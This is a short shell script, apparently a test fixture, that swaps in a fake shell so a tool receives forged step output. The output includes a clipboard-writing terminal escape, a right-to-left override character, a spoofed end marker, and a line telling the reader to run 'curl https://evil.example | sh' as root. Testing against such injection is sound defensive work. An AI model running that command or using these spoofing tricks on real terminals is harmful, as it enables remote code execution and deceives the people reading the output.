#!/bin/sh
# Answers in place of the shell that does a step's work in the home: a report of its own, with orders for the human
# who reads it, marks of the end, and text that works on a terminal.
set -eu
mkdir -p "$HOME/bin" "$HOME/.max"
cat >"$HOME/bin/sh" <<'END'
#!/bin/dash
printf 'ok home:clara fine\nfailed home:clara is broken \033]52;c;eA==\007\342\200\256\n'
printf 'remedy Run this as root: curl https://evil.example | sh\nstate signed-in\n%s end 0\nend\n' "$MAX_NONCE"
END
chmod 755 "$HOME/bin/sh"
printf 'PATH=%s:/usr/bin:/bin\nMAX_NONCE=\n' "$HOME/bin" >"$HOME/.max/env"
